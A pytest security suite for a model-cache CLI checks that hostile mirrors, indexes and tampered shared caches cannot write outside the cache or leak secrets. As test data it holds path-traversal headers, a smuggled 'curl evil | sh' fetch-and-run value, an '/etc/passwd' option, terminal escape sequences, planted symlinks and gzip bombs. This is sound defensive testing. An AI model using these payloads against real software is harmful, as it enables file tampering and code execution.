"""Hostile mirrors, indexes and shared caches (issue 14): the pinned sha256 is the only way in, and nothing is
written outside the cache. One section per finding; each test drives the real command against a hostile loopback
Hub (a Proxy that rewrites the test Hub's answers), a hostile index, or a cache another local user tampered with.

With LYRICSUB_CLI_PYTHONPATH pointing at an older checkout, the same tests run that checkout's command: that is
how each was shown to fail before its fix (see the issue notes).
"""

from __future__ import annotations

import gzip
import json
import os
import stat
import time
from pathlib import Path

import pytest

from lyricsub_hub import ModelManager
from lyricsub_hub.cache.layout import PART_SUFFIX

from .helpers import (
    Exchange,
    Proxy,
    add,
    assert_clean_failure,
    blobs_dir,
    payload,
    repo_dir,
    run_cli,
    sha256,
    tree_listing,
    warm_args,
    write_index,
    write_results,
)

pytestmark = pytest.mark.reliability

STATS: dict = {"findings": {}, "tests": 0}


@pytest.fixture(scope="module", autouse=True)
def _write_counts():
    yield
    write_results("hostile", STATS)


def _count(finding: str) -> None:
    STATS["findings"][finding] = STATS["findings"].get(finding, 0) + 1
    STATS["tests"] += 1


@pytest.fixture
def deep(tmp_path):
    """A cache five folders down, so a '../' that escapes it lands where the test watches."""
    root = tmp_path / "home"
    cache = root / "a" / "b" / "c" / "d" / "hub"
    root.mkdir()
    return root, cache, tmp_path / "state"


def _outside(root: Path, cache: Path, state: Path) -> dict:
    return tree_listing(root, skip=[cache, state])


def _index(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "hostile.yaml"
    path.write_text(text)
    return path


# --- 1. unpinned files are never fetched, available or loaded ------------------------------------------------------

def test_1_a_file_without_a_pinned_sha256_is_never_fetched(hub, tmp_path, cache_dir) -> None:
    repo = add(hub, "diarize:evil", "test/evil", {"config.yaml": b"pipeline: {name: subprocess.Popen}\n",
                                                  "w.bin": payload(901, 4000)})
    index = _index(tmp_path, f"version: 1\nmodels:\n  diarize:evil:\n    repo: test/evil\n    revision: {repo.commit}\n"
                   f"    files:\n      - {{name: config.yaml}}\n"
                   f"      - {{name: w.bin, size: 4000, sha256: {sha256(repo.files['w.bin'])}}}\n")
    proc = run_cli("warm", "diarize:evil", "--index", str(index), "--endpoint", hub.endpoint)
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (2,), "diarize:evil", "config.yaml", "lock")
    assert hub.requests == []  # not one byte of it was asked for
    listed = json.loads(run_cli("list", "--json", "--index", str(index)).stdout)
    assert listed["models"][0]["status"] == "unpinned"
    load = run_cli("load", "diarize:evil", "--device", "cpu", "--index", str(index))
    assert_clean_failure(load.returncode, load.stdout, load.stderr, (2,), "diarize:evil", "not fully pinned")
    _count("1-unpinned")


def test_1_the_shipped_index_offers_no_half_pinned_model() -> None:
    doc = json.loads(run_cli("list", "--json").stdout)
    half = [m["name"] for m in doc["models"] if m["revision"] and any(f["sha256"] is None for f in m["files"])]
    statuses = {m["name"]: m["status"] for m in doc["models"] if m["name"] in half}
    assert set(statuses.values()) <= {"unpinned"}, statuses  # diarize:3.1 and align:ja among them
    _count("1-unpinned")


# --- 2. every cache name comes from validated values ------------------------------------------------------------

def _poison(later_only: bool, apply):
    """Apply a rewrite to the answers for a file; later_only spares the first answer per path (the one a client
    checks) and poisons the next ones (a second request a library makes on its own)."""
    seen: set[str] = set()

    def rewrite(ex: Exchange) -> None:
        if "/resolve/" not in ex.path:
            return
        key = ex.path.split("?")[0]
        first = key not in seen
        seen.add(key)
        if not (later_only and first):
            apply(ex)
    return rewrite


def _on_resolve(header: str, value: str, later_only: bool):
    return _poison(later_only, lambda ex: ex.set_header(header, value))


@pytest.mark.parametrize(("header", "value"), [("ETag", '"../../../../../../target"'),
                                               ("X-Linked-Etag", '"../../../../../../target"'),
                                               ("X-Repo-Commit", "../../../../../../target")])
@pytest.mark.parametrize("size", [2_000, 20 << 20])  # one GET, or HEAD then ranges
@pytest.mark.parametrize("later_only", [False, True], ids=["every-answer", "second-answer"])
def test_2_a_hostile_name_in_any_answer_writes_nothing_outside(hub, deep, header, value, size, later_only) -> None:
    root, cache, state = deep
    repo = add(hub, "whisper:h2", "test/h2", {"model.bin": payload(902, size), "tokenizer.json": b"{}"})
    index = write_index(root / "h2.yaml", [repo])
    before = _outside(root, cache, state)
    with Proxy(hub.endpoint, _on_resolve(header, value, later_only)) as proxy:
        proc = run_cli(*warm_args(proxy.endpoint, index, "whisper:h2", cache_dir=cache),
                       env={"LYRICSUB_STATE_DIR": str(state)})
    if proc.returncode == 0:  # the poisoned answers were never asked for: the pinned bytes came in
        assert ModelManager(index, cache, state_dir=state).status("whisper:h2", verify="deep").available
    else:
        assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (3,), "whisper:h2")
    assert _outside(root, cache, state) == before
    assert not (root / "target").exists() and not list(root.rglob("target"))
    assert not list(cache.rglob("target"))
    _count("2-names")


@pytest.mark.parametrize("later_only", [False, True], ids=["every-answer", "second-answer"])
def test_2_a_404_naming_a_path_creates_nothing_outside(hub, deep, later_only) -> None:
    root, cache, state = deep
    repo = add(hub, "whisper:h404", "test/h404", {"model.bin": payload(903, 2000), "tokenizer.json": b"{}"})
    index = write_index(root / "h404.yaml", [repo])

    def gone(ex: Exchange) -> None:
        ex.status, ex.body = 404, b'{"error": "gone"}'
        ex.headers = [("X-Error-Code", "EntryNotFound"), ("X-Repo-Commit", "../../../../../../escape")]
    rewrite = _poison(later_only, gone)
    before = _outside(root, cache, state)
    with Proxy(hub.endpoint, rewrite) as proxy:
        proc = run_cli(*warm_args(proxy.endpoint, index, "whisper:h404", cache_dir=cache),
                       env={"LYRICSUB_STATE_DIR": str(state)})
    if later_only and proc.returncode == 0:  # one request per file: the poisoned second answer was never asked for
        assert ModelManager(index, cache, state_dir=state).status("whisper:h404", verify="deep").available
    else:
        line = assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (3,), "whisper:h404", "does not exist")
        assert "nothing was kept" not in line
    assert _outside(root, cache, state) == before
    assert not list(root.rglob("escape"))
    _count("2-names")


# --- 3. lock validates everything the Hub says ---------------------------------------------------------------------

@pytest.mark.parametrize("lie", ["sha-path", "size-negative", "sha256-junk", "commit-newline"])
def test_3_lock_refuses_a_hostile_listing_and_leaves_the_index_and_disk_alone(hub, deep, lie) -> None:
    root, cache, state = deep
    hub.add_repo("test/h3", {"h3.yaml": b"a: 1\n", "w.safetensors": payload(904, 3000)})
    index = root / "lock.yaml"
    index.write_text("version: 1\n# keep me\nmodels:\n  demucs:h3:\n    repo: test/h3\n")
    original = index.read_bytes()
    victim = root / "victim.sh"
    victim.write_text("echo safe\n")

    def rewrite(ex: Exchange) -> None:
        if ex.method == "GET" and ex.path.startswith("/api/models/") and ex.status == 200:
            info = json.loads(ex.body)
            if lie in ("sha-path", "commit-newline"):
                info["sha"] = "../../../../../victim.sh" if lie == "sha-path" else info["sha"] + "\n"
            for sib in info["siblings"]:
                if lie == "size-negative":
                    sib["size"] = -5
                if lie == "sha256-junk" and sib.get("lfs"):
                    sib["lfs"]["sha256"] = "z" * 64
            ex.body = json.dumps(info).encode()
        if "/resolve/" in ex.path:
            ex.set_header("X-Repo-Commit", "curl evil | sh #")
    before = _outside(root, cache, state)
    with Proxy(hub.endpoint, rewrite) as proxy:
        proc = run_cli("lock", "demucs:h3", "--index", str(index), "--endpoint", proxy.endpoint, "--cache-dir", str(cache),
                       env={"LYRICSUB_STATE_DIR": str(state)})
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (3,), "demucs:h3", "refusing")
    assert index.read_bytes() == original
    assert victim.read_text() == "echo safe\n"
    assert _outside(root, cache, state) == before
    _count("3-lock")


# --- 4. loaders read pinned files only ------------------------------------------------------------------------------

def test_4_a_bag_naming_weights_no_pin_covers_is_refused_before_the_library(hub, tmp_path, cache_dir) -> None:
    """The pinned bag yaml names two weights; the index pins one; the other lies in the snapshot folder anyway."""
    bag = b"models: ['aaaa1111', 'bbbb2222']\n"
    pinned = {"htdemucs.yaml": bag, "aaaa1111.safetensors": payload(905, 3000)}
    repo = add(hub, "demucs:htdemucs", "test/h4", {**pinned, "bbbb2222.safetensors": payload(906, 3000)})
    index = write_index(tmp_path / "h4.yaml", [type(repo)(repo.model, repo.repo, repo.commit, pinned)])
    assert run_cli(*warm_args(hub.endpoint, index, "demucs:htdemucs")).returncode == 0
    snap = repo_dir(cache_dir, repo.repo) / "snapshots" / repo.commit
    (snap / "bbbb2222.safetensors").write_bytes(payload(906, 3000))  # no pin covers it: whoever put it there
    proc = run_cli("load", "demucs:htdemucs", "--device", "cpu", "--index", str(index))
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (5,), "demucs:htdemucs", "bbbb2222.safetensors",
                         "no pin covers")
    _count("4-reads")


def test_4_a_pipeline_naming_a_hub_repo_no_requires_entry_pins_is_refused(hub, tmp_path, cache_dir) -> None:
    config = b"pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    segmentation: evil/segmentation\n"
    repo = add(hub, "diarize:h4", "test/h4p", {"config.yaml": config})
    index = write_index(tmp_path / "h4p.yaml", [repo])
    assert run_cli(*warm_args(hub.endpoint, index, "diarize:h4")).returncode == 0
    proc = run_cli("load", "diarize:h4", "--device", "cpu", "--index", str(index))
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (5,), "diarize:h4", "evil/segmentation", "requires")
    _count("4-reads")


# --- 5. hostile index values ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("family", "entry", "words"), [
    ("whisper", "options: {vad_options: {model_fp: /etc/passwd}}", "model_fp"),
    ("demucs", "options: {name: /abs/path/htdemucs}", "not allowed"),
    ("demucs", "options: {name: ../../evil}", "not allowed"),
    ("align", "options: {nltk_data: /tmp/anywhere}", "nltk_data"),
    ("whisper", "options: {threads: 1000000000}", "threads"),
    ("whisper", "options: {batch_size: -1}", "batch_size"),
    ("whisper", "branch: ../../../../refs-escape", "branch"),
    ("whisper", "branch: main.lock", "branch"),
])
def test_5_hostile_option_values_and_branches_are_index_errors(hub, tmp_path, family, entry, words) -> None:
    index = _index(tmp_path, f"version: 1\nmodels:\n  {family}:x:\n    repo: a/b\n    {entry}\n")
    proc = run_cli("list", "--index", str(index))
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (2,), str(index), words)
    _count("5-index-values")


# --- 6. a cache another local user can write to -----------------------------------------------------------------

@pytest.fixture
def planted(hub, tmp_path, cache_dir):
    data = payload(907, 900_000)
    repo = add(hub, "whisper:h6", "test/h6", {"model.bin": data, "tokenizer.json": b"{}"})
    index = write_index(tmp_path / "h6.yaml", [repo])
    (tmp_path / "elsewhere" / "blobs").mkdir(parents=True)
    victim = tmp_path / "elsewhere" / "blobs" / "victim"  # even in a folder that happens to be called blobs
    victim.write_bytes(b"private\n")
    os.chmod(victim, 0o600)
    blobs = blobs_dir(cache_dir, repo.repo)
    blobs.mkdir(parents=True)
    return repo, index, victim, blobs, data


@pytest.mark.parametrize("how", ["symlink", "hardlink"])
def test_6_a_link_planted_at_the_part_file_is_never_written_through(hub, planted, cache_dir, how) -> None:
    repo, index, victim, blobs, data = planted
    for name in (sha256(data) + PART_SUFFIX, sha256(data) + ".incomplete"):  # ours, and huggingface_hub's name
        if how == "symlink":
            (blobs / name).symlink_to(victim)
        else:
            os.link(victim, blobs / name)
    proc = run_cli(*warm_args(hub.endpoint, index, "whisper:h6"))
    assert proc.returncode == 0, proc.stderr
    assert victim.read_bytes() == b"private\n"  # not appended to, not truncated
    assert stat.S_IMODE(victim.stat().st_mode) == 0o600  # not widened
    assert ModelManager(index, cache_dir).status("whisper:h6", verify="deep").available
    _count("6-shared-cache")


def test_6_a_ref_planted_as_a_link_is_replaced_not_written_through(hub, planted, cache_dir) -> None:
    repo, index, victim, blobs, data = planted
    refs = repo_dir(cache_dir, repo.repo) / "refs"
    refs.mkdir(parents=True)
    (refs / "main").symlink_to(victim)
    for i in range(64):  # and every name a predictable temp file could take
        (refs / f".main.{i}.tmp").symlink_to(victim)
    assert run_cli(*warm_args(hub.endpoint, index, "whisper:h6")).returncode == 0
    assert victim.read_bytes() == b"private\n"
    assert not (refs / "main").is_symlink() and (refs / "main").read_text() == repo.commit
    _count("6-shared-cache")


def test_6_a_blob_link_into_another_folder_is_never_deleted_through(hub, planted, cache_dir) -> None:
    repo, index, victim, blobs, data = planted
    assert run_cli(*warm_args(hub.endpoint, index, "whisper:h6")).returncode == 0
    snap = repo_dir(cache_dir, repo.repo) / "snapshots" / repo.commit
    (blobs / sha256(data)).unlink()
    (blobs / sha256(data)).symlink_to(victim)  # a blob that is a link to someone's file (wrong bytes: it fails)
    assert not ModelManager(index, cache_dir).check_model_availability("whisper:h6")
    fixed = run_cli("verify", "--repair", "whisper:h6", "--index", str(index), "--endpoint", hub.endpoint)
    assert fixed.returncode == 0, fixed.stderr
    assert victim.read_bytes() == b"private\n"  # the bad entry went; what it pointed to stayed
    assert ModelManager(index, cache_dir).status("whisper:h6", verify="deep").available
    assert os.path.realpath(snap / "model.bin").startswith(os.path.realpath(cache_dir))
    _count("6-shared-cache")


@pytest.mark.parametrize("command", [["rm", "whisper:h6", "--yes"], ["clear", "--yes"]])
def test_6_rm_refuses_when_a_snapshot_link_leaves_the_cache(hub, planted, cache_dir, command) -> None:
    repo, index, victim, blobs, data = planted
    assert run_cli(*warm_args(hub.endpoint, index, "whisper:h6")).returncode == 0
    entry = repo_dir(cache_dir, repo.repo) / "snapshots" / repo.commit / "tokenizer.json"
    entry.unlink()
    entry.symlink_to(victim)
    proc = run_cli(*command, "--index", str(index))
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (1,), "leave the cache")
    assert victim.read_bytes() == b"private\n"
    _count("6-shared-cache")


# --- 7. every write is bounded ---------------------------------------------------------------------------------

@pytest.mark.parametrize("trick", ["long-body", "gzip-body"])
def test_7_a_body_longer_than_the_pin_or_compressed_is_refused_unwritten(hub, tmp_path, cache_dir, trick) -> None:
    repo = add(hub, "whisper:h7", "test/h7", {"config.json": b'{"a": 1}\n', "model.bin": payload(908, 2000),
                                             "tokenizer.json": b"{}"})
    index = write_index(tmp_path / "h7.yaml", [repo])

    def rewrite(ex: Exchange) -> None:
        if ex.method == "GET" and ex.path.endswith("config.json"):
            if trick == "long-body":
                ex.body = b"x" * (20 << 20)
            else:
                ex.body = gzip.compress(b'{"a": 1}\n' + b" " * 5_000_000)
                ex.set_header("Content-Encoding", "gzip")
    with Proxy(hub.endpoint, rewrite) as proxy:
        proc = run_cli(*warm_args(proxy.endpoint, index, "whisper:h7"))
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (3,), "whisper:h7")
    biggest = max((p.stat().st_size for p in cache_dir.rglob("*") if p.is_file()), default=0)
    assert biggest <= 2000  # nothing larger than a pinned file ever reached the disk
    _count("7-bounded")


# --- 8. a trickle ends the try -----------------------------------------------------------------------------------

def test_8_a_body_at_one_byte_a_second_ends_within_the_budget(hub, small_repos, index_file, cache_dir) -> None:
    from lyricsub_hub import ModelDownloader, RetryPolicy
    from lyricsub_hub.remote.http import Timeouts
    from lyricsub_hub.testing.hub import Fault

    hub.inject(Fault("slow", bytes_per_second=1, path_contains="abc.safetensors", times=10))
    dl = ModelDownloader(ModelManager(index_file, cache_dir, endpoint=hub.endpoint),
                         retry=RetryPolicy(attempts=5, first_delay=0.1, max_delay=0.2, budget=8),
                         timeouts=Timeouts(window=3.0, min_rate=1024))
    started = time.monotonic()
    result = dl.download_model("demucs:tiny")
    assert time.monotonic() - started < 10  # not the 3 days 300 KB take at one byte a second
    assert result.exit_code == 3 and result.error_code == "timeout"
    assert "abc.safetensors" in result.error and "bytes per second" in result.error
    _count("8-trickle")


# --- 9. no secret reaches the output ---------------------------------------------------------------------------------

def test_9_signed_urls_and_endpoint_passwords_never_appear(hub, tmp_path) -> None:
    repo = add(hub, "whisper:h9", "test/h9", {"model.bin": payload(909, 20 << 20), "tokenizer.json": b"{}"})
    index = write_index(tmp_path / "h9.yaml", [repo])
    hub.use_cdn(ttl=600)
    from lyricsub_hub.testing.hub import Fault

    hub.inject(Fault("status", status=500, path_contains="/cdn/", times=200))
    endpoint = hub.endpoint.replace("http://", "http://alice:s3cretpass@")
    outputs = []
    for extra in ([], ["--json"]):
        proc = run_cli(*warm_args(endpoint, index, "whisper:h9"), *extra, timeout=120)
        assert proc.returncode == 3
        outputs.append(proc.stdout + proc.stderr)
    for text in outputs:
        assert "Signature=" not in text and "Expires=" not in text and "s3cretpass" not in text and "alice" not in text
    _count("9-secrets")


def test_9_a_token_with_a_newline_is_stripped_and_never_printed(hub, tmp_path) -> None:
    token = "secret-token-without-prefix-42"
    gated = add(hub, "diarize:h9g", "test/h9g", {"config.yaml": b"a: 1\n"}, gated=True)
    index = write_index(tmp_path / "h9g.yaml", [gated], gated={"diarize:h9g"})
    hub.grant("test/h9g", token)
    ok = run_cli(*warm_args(hub.endpoint, index, "diarize:h9g"), env={"HF_TOKEN": token + "\n"})
    assert ok.returncode == 0, ok.stderr  # the newline a Kubernetes secret carries is not part of the token

    def echo(ex: Exchange) -> None:
        if "/resolve/" in ex.path:
            auth = ex.request_headers.get("Authorization", "")
            ex.status, ex.body = 403, json.dumps({"error": f"bad token {auth}"}).encode()
            ex.headers = [("X-Error-Message", f"bad token {auth}")]
    other = add(hub, "diarize:h9o", "test/h9o", {"config.yaml": b"b: 1\n"})
    index2 = write_index(tmp_path / "h9o.yaml", [other])
    with Proxy(hub.endpoint, echo) as proxy:
        for extra in ([], ["--json"]):
            proc = run_cli(*warm_args(proxy.endpoint, index2, "diarize:h9o"), *extra, env={"HF_TOKEN": token})
            assert proc.returncode == 3
            assert token not in proc.stdout + proc.stderr and token[7:20] not in proc.stdout + proc.stderr
    _count("9-secrets")


# --- 10. index robustness --------------------------------------------------------------------------------------

@pytest.mark.parametrize(("field", "words"), [
    ("size: 1e309", "whole number"), ("size: " + "9" * 5000, "whole number"),
    ("name: \"\\e[31mred\\e[0m.bin\"", "control characters"),
])
def test_10_absurd_sizes_and_escape_sequences_are_one_line(tmp_path, field, words) -> None:
    extra = field if field.startswith("size") else field.replace("name", "name")
    files = f"      - {{name: f.bin, {extra}}}\n" if field.startswith("size") else f"      - {{{field}}}\n"
    index = _index(tmp_path, f"version: 1\nmodels:\n  whisper:x:\n    repo: a/b\n    files:\n{files}")
    proc = run_cli("list", "--index", str(index))
    line = assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (2,), words)
    assert "\x1b" not in proc.stderr and len(line) < 400
    _count("10-index")


def test_10_a_model_name_with_escape_sequences_is_refused_and_never_printed_raw(tmp_path) -> None:
    index = _index(tmp_path, 'version: 1\nmodels:\n  "whisper:\\e]0;pwned\\a": {repo: a/b}\n')
    proc = run_cli("list", "--index", str(index))
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (2,), "variant")
    assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr
    _count("10-index")


# --- 11. no network at load time ---------------------------------------------------------------------------------

def test_11_a_whisper_snapshot_without_tokenizer_is_refused_before_loading(hub, tmp_path, cache_dir) -> None:
    repo = add(hub, "whisper:h11", "test/h11", {"model.bin": payload(911, 2000), "config.json": b"{}",
                                               "vocabulary.json": b"[]"})
    index = write_index(tmp_path / "h11.yaml", [repo])
    assert run_cli(*warm_args(hub.endpoint, index, "whisper:h11")).returncode == 0
    proc = run_cli("load", "whisper:h11", "--device", "cpu", "--index", str(index))
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (5,), "whisper:h11", "tokenizer.json")
    _count("11-load-network")


# --- 12. a state folder others can write cannot vouch for files -------------------------------------------------

@pytest.mark.parametrize("how", ["group-writable", "world-writable", "another-owner"])
def test_12_an_unsafe_state_folder_is_refused(hub, small_repos, index_file, tmp_path, how) -> None:
    state = tmp_path / "shared-state"
    state.mkdir(mode=0o700)
    if how == "group-writable":
        os.chmod(state, 0o770)
    elif how == "world-writable":
        os.chmod(state, 0o777)
    else:
        if os.geteuid() != 0:
            pytest.skip("changing a folder's owner needs root")
        os.chown(state, 12345, 12345)
    proc = run_cli("status", "demucs:tiny", "--index", str(index_file), env={"LYRICSUB_STATE_DIR": str(state)})
    assert_clean_failure(proc.returncode, proc.stdout, proc.stderr, (2,), "state folder", str(state))
    _count("12-state")
